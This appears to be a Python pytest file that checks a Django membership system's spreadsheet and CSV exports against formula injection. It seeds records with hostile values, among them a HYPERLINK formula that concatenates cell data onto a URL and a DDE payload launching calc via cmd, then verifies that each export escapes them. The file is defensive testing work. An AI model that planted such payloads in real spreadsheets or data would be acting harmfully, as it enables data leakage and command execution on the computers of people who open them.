"""Finding M3 (issue 9): no spreadsheet the system writes contains a live formula.

A hostile dataset is built through the actions (organization and member names, notes,
reasons, decision numbers that a spreadsheet would run), then EVERY writer of XLSX or CSV
runs on it: the report annex (web and `xdd report`), the member export, the audit trail
(web CSV and XLSX, `xdd audit`), the interchange export (CSV folder and workbook, `xdd export`,
the web download). No cell may be a formula and no text may start a formula unguarded.
`test_every_writer_is_covered` fails when a module starts writing spreadsheets without
being listed here (and without using core.spreadsheet)."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from xaydungdang.conftest import person
from xaydungdang.core.spreadsheet import formula_like

pytestmark = pytest.mark.django_db

D = dt.date
HYPERLINK = '=HYPERLINK("http://x"&A1,"y")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1", "=cmd|' /C calc'!A0"]
ROOT = Path(__file__).resolve().parents[2]  # the xaydungdang package

# Every module that writes an XLSX or CSV file, and the test below that runs it on the hostile data.
COVERED = {
    "reports/renderers/xlsx.py": "report annex: web download and `xdd report --format xlsx`",
    "members/export.py": "member list export /dang-vien/xuat-excel/",
    "accounts/audit_trail.py": "audit trail XLSX (web) and CSV (`xdd audit`)",
    "accounts/views.py": "audit trail CSV streamed by the web",
    "interchange/output.py": "interchange export: CSV folder and workbook, `xdd export`, /xuat-du-lieu/",
    "core/tables.py": "export of a django-tables2 list: the activity lists /hoat-dong/<bảng>/xuat-excel/",
    "reports/renderers/forms_xlsx.py": "statistical forms (Biểu 1-BTCTW ...): `xdd forms --format xlsx`, web download",
    "interchange/views.py": "import errors workbook /nhap-du-lieu/<id>/loi.xlsx (interchange test_clerk_imports)",
    "reviews/quality_xlsx.py": "rating quality forms: `xdd ratings --format xlsx`, web (reviews/tests/test_hostile.py)",
    "reviews/roundimport.py": "a rating round's template workbook (reviews/tests/test_hostile.py)",
    "dues/sheets.py": "dues: `xdd dues --format xlsx`, the yearly report (dues/tests/test_hostile.py)",
    "alerts/views.py": "alerts by cell /canh-bao/?xuat=xlsx and each list's export (test_alert_exports)",
    "alerts/reminders.py": "deadlines /han-can-xu-ly/?xuat=xlsx (test_deadline_export)",
    "indicators/campaign.py": "data-quality campaign /ra-soat-du-lieu/?xuat=xlsx, xdd check --campaign",
    "transfers/documents.py": "transfer register 10-SHĐ /chuyen-sinh-hoat/so-gioi-thieu/ (transfers test_pages)",
    "badges/documents.py": "badge proposal list: `xdd badges --format xlsx`, web download (badges test_pages)",
}
EXEMPT = {
    "core/spreadsheet.py": "the helper itself",
    "interchange/synth.py": "synthetic import input for the benchmark (bench/import.py): generated, not user data",
    "interchange/templates.py": "template workbooks to fill in: headers, lists and examples from the code only",
}
WRITER = re.compile(
    r"\bWorkbook\(|\bcsv\.writer\(|\bDictWriter\(|\.to_csv\(|\bcsv_writer\(|\bWriteOnlyCell\("
    r"|\bxlsxwriter\b|\bopenpyxl\.Workbook\b"
)


def _unguarded(value) -> bool:
    return isinstance(value, str) and formula_like(value) and not value.startswith("'")


def check_xlsx(content: bytes, where: str) -> list[str]:
    """Every cell of every sheet: not a formula, no unguarded formula-like text. Returns all strings."""
    book = load_workbook(io.BytesIO(content))  # data_only=False: formulas would show as formulas
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert not _unguarded(cell.value), f"{where}: {sheet.title}!{cell.coordinate} = {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.append(cell.value)
    return seen


def read(path: Path) -> str:
    """The file as a spreadsheet reads it: no newline translation (a bare CR ends a row)."""
    with open(path, encoding="utf-8", newline="") as handle:
        return handle.read()


def check_csv(text: str, where: str) -> list[str]:
    seen = []
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")):
        for field in row:
            assert not _unguarded(field), f"{where}: {field!r}"
            seen.append(field)
    return seen


def assert_reached(seen: list[str], where: str, *texts: str) -> None:
    """The hostile text did reach the writer (and was guarded), so the check above means something."""
    for text in texts:
        assert any(value.startswith("'") and text in value for value in seen), f"{where}: {text!r} not written"


@pytest.fixture
def hostile(tree, people):
    from xaydungdang.inspections import actions as inspections
    from xaydungdang.members import actions as members
    from xaydungdang.organizations import actions as org

    for code, name in (("U1", HYPERLINK), ("G1", "+1+1"), ("C1", "＝1")):
        current = type(tree[code]).objects.get(pk=tree[code].pk)
        org.update(current, name=name, locality=None, note="=cmd|' /C calc'!A0", expected_version=current.version)
    cell = org.found("H1", "@SUM(1)", "cell", tree["G1"], D(2016, 1, 1), decision_no="-2+3", note="\t=1")
    bad = members.enter_member(
        person("H001", HYPERLINK, hometown="+1+1", residence="-2+3", religion="@SUM(1)"),
        entry="opening",
        cell=cell,
        on=D(2016, 1, 1),
        decision_no="=cmd|' /C calc'!A0",
        note="\r=1",
    )
    members.enter_member(
        person("H002", "=cmd|' /C calc'!A0"), entry="opening", cell=tree["C1"], on=D(2016, 1, 1), note="\t=1"
    )
    moved = members.transfer(bad, tree["C2"], D(2023, 3, 1), decision_no="@SUM(1)", note="＝1")
    members.void_event(moved, "=cmd|' /C calc'!A0")
    members.transfer(bad, tree["C2"], D(2023, 4, 1), decision_no="+1+1", note="\r=1")
    inspections.record_discipline(
        {
            "decided_by_id": tree["G1"].id,
            "subject_type": "member",
            "subject_member_id": bad.id,
            "level": "warning",
            "decided_on": D(2023, 6, 1),
            "reason": HYPERLINK,
        }
    )
    return bad


def test_report_xlsx(client_for, hostile, tmp_path):
    client = client_for("staff_p")
    query = {"to_chuc": "U1", "kind": "annual", "tu": "01/01/2024", "den": "31/12/2024"}
    response = client.get(reverse("web:report_download", args=["xlsx"]), query)
    assert response.status_code == 200
    seen = check_xlsx(response.content, "report (web)")
    assert_reached(seen, "report (web)", HYPERLINK, "+1+1")

    target = tmp_path / "bao-cao.xlsx"
    call_command(
        "report",
        "--org",
        "P",
        "--from",
        "2024-01-01",
        "--to",
        "2024-12-31",
        "--format",
        "xlsx",
        "-o",
        str(target),
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    seen = check_xlsx(target.read_bytes(), "xdd report")
    assert_reached(seen, "xdd report", HYPERLINK)


def test_forms_xlsx(hostile):
    """The forms' workbook: the organization's name in the masthead and the unit line, labels, the place."""
    from xaydungdang.reports.renderers import forms_layout, forms_xlsx

    header = forms_layout.forms_header("U1", D(2024, 12, 31), place="@SUM(1)", preparer="+1+1", signer="-2+3")
    form = {
        "form": "1",
        "title": "THỐNG KÊ TĂNG, GIẢM ĐẢNG VIÊN",
        "org": {"code": "U1", "name": HYPERLINK},
        "period": {"from": "2024-01-01", "to": "2024-12-31"},
        "previous": {"from": "2023-01-01", "to": "2023-12-31"},
        "columns": ["current", "previous", "pct"],
        "rows": [{"code": "A", "label": "=cmd|' /C calc'!A0", "values": {"current": 1, "previous": 0, "pct": None}}],
    }
    seen = check_xlsx(forms_xlsx.render([form], header), "forms xlsx")
    assert_reached(seen, "forms xlsx", HYPERLINK.upper(), "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)")


def test_member_export(client_for, hostile):
    response = client_for("staff_p").get(reverse("web:member_export"))
    assert response.status_code == 200
    seen = check_xlsx(response.content, "member export")
    assert_reached(seen, "member export", HYPERLINK, "=cmd|' /C calc'!A0", "@SUM(1)", "＝1")


def test_alert_exports(client_for, hostile):
    """Every alert of the scope by cell (alerts/views.py writes it) and each list (core.tables)."""
    client = client_for("staff_p")
    response = client.get(reverse("web:alerts"), {"xuat": "xlsx"})
    assert response.status_code == 200
    seen = check_xlsx(response.content, "alerts by cell")
    assert_reached(seen, "alerts by cell", "@SUM(1)")
    response = client.get(reverse("web:alerts"), {"danh_sach": "chi-bo", "xuat": "xlsx"})  # cells below 3
    assert response.status_code == 200
    assert_reached(check_xlsx(response.content, "alerts chi-bo"), "alerts chi-bo", "@SUM(1)")


def test_deadline_export(client_for, hostile, tree):
    """The reminders' workbook (alerts/reminders.py): a probationary member named like a formula."""
    from xaydungdang.core.dates import add_months, today
    from xaydungdang.members import actions as members

    joined = add_months(today(), -12)
    members.admit(person("H003", "@SUM(1)", birth_date=D(1995, 1, 1)), tree["C2"], joined)
    response = client_for("staff_p").get(reverse("web:deadlines"), {"xuat": "xlsx"})
    assert response.status_code == 200
    assert_reached(check_xlsx(response.content, "deadlines"), "deadlines", "@SUM(1)")


def test_campaign_export(client_for, hostile, tmp_path):
    """The data-quality campaign's workbook (indicators/campaign.py): the hostile members have no
    national ID, so they are listed with their names written like formulas."""
    response = client_for("staff_p").get(reverse("web:data_campaign"), {"xuat": "xlsx"})
    assert response.status_code == 200
    seen = check_xlsx(response.content, "data campaign (web)")
    assert_reached(seen, "data campaign (web)", HYPERLINK, "=cmd|' /C calc'!A0")
    target = tmp_path / "ra-soat.xlsx"
    call_command("datacheck", "--campaign", "--format", "xlsx", "-o", str(target), stdout=io.StringIO())
    seen = check_xlsx(target.read_bytes(), "xdd check --campaign")
    assert_reached(seen, "xdd check --campaign", HYPERLINK, "=cmd|' /C calc'!A0")


def test_activity_exports(client_for, hostile, tree):
    """Every activity list's export (core/generic.py over core/tables.py::table_xlsx)."""
    from xaydungdang.activities import actions as activities
    from xaydungdang.core.generic import activities as activity_tables

    activities.record_class(
        {
            "org_id": tree["G1"].id,
            "kind": "other",
            "title": "@SUM(1)",
            "participants": 3,
            "started_on": D(2023, 5, 1),
            "ended_on": None,
        }
    )
    activities.record_document(
        {
            "org_id": tree["G1"].id,
            "type": "plan",
            "issued_on": D(2023, 5, 1),
            "number": "-2+3",
            "title": "\t=1",
            "concretizes": "＝1",
            "is_review": False,
        }
    )
    client = client_for("staff_p")
    for spec in activity_tables():
        response = client.get(reverse("web:activity_export", args=[spec.slug]), {"to_chuc": "=cmd|' /C calc'!A0"})
        assert response.status_code == 200, spec.slug
        check_xlsx(response.content, f"activity export {spec.slug}")
    seen = check_xlsx(client.get(reverse("web:activity_export", args=["ky-luat"])).content, "ky-luat")
    assert_reached(seen, "activity export ky-luat", HYPERLINK, "+1+1")  # the member's name, the committee's name
    seen = check_xlsx(client.get(reverse("web:activity_export", args=["lop-hoc"])).content, "lop-hoc")
    assert_reached(seen, "activity export lop-hoc", "@SUM(1)")
    seen = check_xlsx(client.get(reverse("web:activity_export", args=["van-ban"])).content, "van-ban")
    assert_reached(seen, "activity export van-ban", "-2+3", "=1", "＝1")  # "\t=1": the export trims the tab


def test_audit_exports(client_for, hostile, tmp_path, capsys):
    client = client_for("admin")
    csv_response = client.get(reverse("accounts:audit-export"), {"dinh_dang": "csv"})
    assert csv_response.status_code == 200
    text = b"".join(csv_response.streaming_content).decode("utf-8")
    assert_reached(check_csv(text, "audit CSV (web)"), "audit CSV (web)", HYPERLINK, "=cmd|' /C calc'!A0")

    xlsx_response = client.get(reverse("accounts:audit-export"), {"dinh_dang": "xlsx"})
    assert xlsx_response.status_code == 200
    seen = check_xlsx(xlsx_response.content, "audit XLSX (web)")
    assert_reached(seen, "audit XLSX (web)", HYPERLINK, "=cmd|' /C calc'!A0")

    target = tmp_path / "nhat-ky.csv"
    call_command("audit", "--format", "csv", "-o", str(target), stdout=io.StringIO(), stderr=io.StringIO())
    seen = check_csv(read(target), "xdd audit -o")
    assert_reached(seen, "xdd audit -o", HYPERLINK, "=cmd|' /C calc'!A0")
    capsys.readouterr()
    call_command("audit", "--format", "csv")  # to standard output
    assert_reached(check_csv(capsys.readouterr().out, "xdd audit"), "xdd audit", HYPERLINK)


def test_interchange_exports(client_for, hostile, tmp_path):
    from xaydungdang.interchange.exporter import export_path

    expected = (HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1", "=cmd|' /C calc'!A0")
    export_path(tmp_path / "csv")
    seen = []
    for path in sorted((tmp_path / "csv").glob("*.csv")):
        seen += check_csv(read(path), f"interchange {path.name}")
    assert_reached(seen, "interchange CSV", *expected)

    export_path(tmp_path / "bo.xlsx")
    assert_reached(check_xlsx((tmp_path / "bo.xlsx").read_bytes(), "interchange xlsx"), "interchange xlsx", *expected)

    call_command("exportdata", str(tmp_path / "cli.xlsx"), stdout=io.StringIO())
    assert_reached(check_xlsx((tmp_path / "cli.xlsx").read_bytes(), "xdd export"), "xdd export", HYPERLINK)

    response = client_for("staff_p").get(reverse("web:export_dataset"))
    assert response.status_code == 200
    assert_reached(check_xlsx(response.content, "/xuat-du-lieu/"), "/xuat-du-lieu/", HYPERLINK, "=cmd|' /C calc'!A0")


def test_interchange_round_trip_keeps_the_hostile_text(hostile, tmp_path):
    """The guard apostrophe is taken off again on import: the text comes back exactly."""
    from xaydungdang.interchange.columns import clean_text
    from xaydungdang.interchange.exporter import export_path

    export_path(tmp_path / "csv")
    rows = list(csv.reader(io.StringIO(read(tmp_path / "csv" / "members.csv"), newline="")))
    header, by_no = rows[0], {row[0]: row for row in rows[1:]}
    written = by_no["H001"][header.index("full_name")]
    assert written == "'" + HYPERLINK and clean_text(written) == HYPERLINK


def test_every_writer_is_covered():
    """A module that writes XLSX or CSV must be listed in COVERED (so the hostile tests run it)
    and must take its cells from core.spreadsheet."""
    found = set()
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        parts = relative.split("/")
        if "tests" in parts or "migrations" in parts or parts[-1] == "conftest.py":
            continue
        if WRITER.search(path.read_text(encoding="utf-8")):
            found.add(relative)
    unlisted = found - set(COVERED) - set(EXEMPT)
    assert not unlisted, f"spreadsheet writers not run by the hostile test: {sorted(unlisted)}"
    assert set(COVERED) <= found, f"listed but no longer writing: {sorted(set(COVERED) - found)}"
    for relative in COVERED:
        assert "xaydungdang.core.spreadsheet" in (ROOT / relative).read_text(encoding="utf-8"), relative
